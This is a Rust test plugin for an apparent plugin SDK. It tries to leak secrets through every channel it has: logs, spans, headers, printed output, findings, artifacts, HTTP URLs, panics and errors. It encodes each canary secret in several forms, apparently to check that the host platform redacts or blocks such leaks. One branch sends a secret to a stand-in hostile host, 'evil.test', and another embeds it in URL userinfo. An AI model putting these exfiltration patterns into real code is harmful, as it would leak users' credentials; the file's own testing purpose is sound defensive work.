//! A plugin that tries to leak its secrets on every way that a plugin has.
//!
//! `odd` is full of characters that are escaped somewhere; `plain` can stand in a name.

#![allow(clippy::panic, clippy::print_stdout, clippy::print_stderr, reason = "that is its work")]

use std::error::Error;
use std::fmt;

use oxg_sdk::http::HeaderMap;
use oxg_sdk::prelude::*;
use oxg_sdk::tracing::{field, info_span};

struct Leaky;

#[derive(Deserialize)]
struct Input {
    way: String,
}

/// The secret as it is, and as it may be written.
#[derive(Debug, Clone)]
struct Canary {
    forms: Vec<String>,
}

impl Canary {
    fn new(value: &str) -> Self {
        let hex: String = value.bytes().map(|byte| format!("{byte:02x}")).collect();
        let percent: String = value.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let forms = [value.to_owned(), hex.to_uppercase(), hex, percent, base64(value.as_bytes())];
        let shifted = base64(format!("x{value}").as_bytes());
        let escaped = format!("{:?}", format!("{value:?}"));
        Self { forms: forms.into_iter().chain([shifted, escaped]).collect() }
    }

    fn all(&self) -> String {
        self.forms.join(" | ")
    }
}

#[derive(Debug)]
struct Wrapped(Box<dyn Error + Send + Sync>);

impl fmt::Display for Wrapped {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("the sign-in failed")
    }
}

impl Error for Wrapped {
    fn source(&self) -> Option<&(dyn Error + 'static)> {
        Some(&*self.0)
    }
}

#[oxg_sdk::plugin]
impl Plugin for Leaky {
    async fn on_task(&self, ctx: &Context<Self>, task: Task) -> Result<TaskOutcome> {
        let Input { way } = task.input()?;
        let odd = ctx.secrets().get("odd").await?.expose(str::to_owned);
        let plain = ctx.secrets().get("plain").await?.expose(str::to_owned);
        let canary = Canary::new(&odd);
        let all = canary.all();
        info!(way, "begins");
        match way.as_str() {
            "message" => info!("{all} {odd:?}"),
            "field" => info!(text = all, value = %odd, bytes = odd.as_bytes(), "field"),
            "debug" => info!(?canary, "debug"),
            "span" => {
                let span = info_span!("holds", text = all, later = field::Empty);
                span.record("later", field::display(&odd));
                span.in_scope(|| info!("in a span"));
            }
            "error chain" => {
                let error = Wrapped(all.clone().into());
                let error: &(dyn Error + 'static) = &error;
                error!(error, "chain");
            }
            "log crate" => log::warn!(target: &format!("target::{plain}"), "{all}"),
            "headers" => {
                let mut headers = HeaderMap::new();
                for (name, value) in
                    [("authorization", "Bearer abcdef0123456789"), ("x-plain", &plain)]
                {
                    if let Ok(value) = value.parse() {
                        headers.insert(name, value);
                    }
                }
                info!(?headers, "headers");
            }
            "print" => {
                println!("{all}");
                eprintln!("{all}");
            }
            "progress" => ctx.progress(1, 2, &all),
            "finding" => {
                let finding =
                    Finding::low(format!("leak.{plain}"), &all).target(&all).evidence(&all);
                ctx.emit(finding.meta(&plain, &all).meta("password", "hunter2hunter2")).await?;
            }
            "output" => return TaskOutcome::with_output(&json!({ "all": all, &plain: [odd] })),
            "artifact" => {
                ctx.artifacts().put(format!("reports/{plain}.txt"), "content").await?;
            }
            "userinfo" => {
                ctx.http().get(format!("https://user:{plain}@shop.test/{all}")).send().await?;
            }
            "denied" => {
                ctx.http().get(format!("https://{plain}.evil.test/{plain}")).send().await?;
            }
            "panic" => panic!("{all}"),
            "panic in a task" => {
                tokio::spawn(async move { panic!("{all}") }).await?;
            }
            "panic in a thread" => {
                let panicked = std::thread::spawn(move || panic!("{all}")).join().is_err();
                info!(panicked, "a thread");
            }
            "failure" => return Err(Failure::permanent(all)),
            "error" => return Err(Wrapped(all.into()).into()),
            _ => return Err(Failure::permanent("there is no such way")),
        }
        Ok(TaskOutcome::done())
    }

    async fn on_stop(&self, ctx: &Context<Self>) -> Result {
        let odd = ctx.secrets().get("odd").await?.expose(str::to_owned);
        Err(Failure::permanent(format!("stopped with {odd}")))
    }
}

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let bits = chunk.iter().fold(0_u32, |bits, byte| bits << 8 | u32::from(*byte));
        let bits = bits << (8 * (3 - chunk.len()));
        for place in 0..=chunk.len() {
            let index = (bits >> (18 - 6 * place)) as usize & 63;
            text.push(ALPHABET.get(index).copied().map_or('=', char::from));
        }
    }
    text
}

#[oxg_sdk::main]
fn main() -> Leaky {
    Leaky
}
